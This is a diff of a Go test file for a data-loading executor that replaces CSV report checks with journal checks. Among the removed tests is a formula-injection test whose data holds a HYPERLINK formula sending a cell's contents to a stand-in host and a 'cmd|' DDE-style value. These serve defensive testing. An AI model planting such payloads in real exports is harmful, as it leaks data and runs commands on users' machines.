@@ -1,13 +1,9 @@
 package executor
 
 import (
-	"bytes"
 	"context"
-	"encoding/csv"
 	"errors"
 	"fmt"
-	"os"
-	"path/filepath"
 	"reflect"
 	"strings"
 	"testing"
@@ -98,39 +94,13 @@ func TestLineFailsRestCommitted(t *testing.T) {
 	if st.Committed != 1 || st.Failed != 1 {
 		t.Errorf("orders %+v", st)
 	}
-	// The report gives the failing line's row with the message beside it.
-	out := filepath.Join(t.TempDir(), "failed.csv")
-	n, _, err := Report(o.Journal, out)
-	if err != nil || n != 1 {
-		t.Fatalf("report %d %v", n, err)
+	// The journal keeps the failing line's row, and what of the record
+	// exists: what the failed rows' file (package report) gives.
+	got, rows := failedRows(t, o.Journal, "orders", "O1")
+	if len(rows) != 1 || !reflect.DeepEqual(rows[0].Header, []string{"Code", "Name", "Part", "Qty"}) || rows[0].Cells[2] != "NOPE" || rows[0].Loc != "lines.csv:2001" ||
+		!strings.HasPrefix(got.Partly, "ORDERS(") || !strings.HasSuffix(got.Partly, " created with 2 of 3 lines") {
+		t.Errorf("the journal keeps %+v, partly %q", rows, got.Partly)
 	}
-	rows := readCSV(t, out)
-	if !reflect.DeepEqual(rows[0], []string{"Code", "Name", "Part", "Qty", "step", "location", "field", "message"}) ||
-		rows[1][2] != "NOPE" || rows[1][5] != "lines.csv:2001" || !strings.HasPrefix(rows[1][7], "partly loaded (ORDERS(") || !strings.HasSuffix(rows[1][7], " created with 2 of 3 lines): "+e.Message) {
-		t.Errorf("report: %q", rows)
-	}
-	xl := filepath.Join(t.TempDir(), "failed.xlsx")
-	if n, _, err := Report(o.Journal, xl); err != nil || n != 1 {
-		t.Fatalf("xlsx report %d %v", n, err)
-	}
-}
-
-// readCSV reads a CSV we wrote: it starts with a UTF-8 BOM, for Excel
-// to read Hebrew.
-func readCSV(t *testing.T, path string) [][]string {
-	t.Helper()
-	data, err := os.ReadFile(path)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if !bytes.HasPrefix(data, []byte(utf8BOM)) {
-		t.Errorf("%s does not start with a UTF-8 BOM", path)
-	}
-	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(utf8BOM)))).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	return rows
 }
 
 func stepOf(s *Summary, name string) StepSummary {
@@ -324,41 +294,4 @@ func TestOldServers(t *testing.T) {
 			}
 		})
 	}
-}
-
-// A failed row whose cells look like formulas comes back in the CSV report
-// with a leading apostrophe, so that opening the report runs nothing.
-func TestReportCSVNeutralisesFormulas(t *testing.T) {
-	t.Parallel()
-	env := newSandbox(t, sandbox.Options{})
-	evil := `=HYPERLINK("http://example.invalid/?"&A1,"click")`
-	p, f := ordersPlan(orderWithLines("O1", 2, "C1", evil))
-	o := env.opts(t, p, f)
-	if _, err := runApply(context.Background(), o); err != nil {
-		t.Fatal(err)
-	}
-	out := filepath.Join(t.TempDir(), "failed.csv")
-	if n, _, err := Report(o.Journal, out); err != nil || n != 1 {
-		t.Fatalf("report %d %v", n, err)
-	}
-	rows := readCSV(t, out)
-	if rows[1][2] != "'"+evil {
-		t.Errorf("the formula cell came back as %q", rows[1][2])
-	}
-}
-
-func TestNeutraliseFormula(t *testing.T) {
-	t.Parallel()
-	checkEach(t, "neutraliseFormula", neutraliseFormula, map[string]string{
-		"":              "",
-		"plain":         "plain",
-		"=1+1":          "'=1+1",
-		"+SUM(A1)":      "'+SUM(A1)",
-		"-2+3+cmd|' /C": "'-2+3+cmd|' /C",
-		"@SUM(A1)":      "'@SUM(A1)",
-		"\t=1":          "'\t=1",
-		"-5":            "-5",
-		"+3.5":          "+3.5",
-		"a=b":           "a=b",
-	})
 }
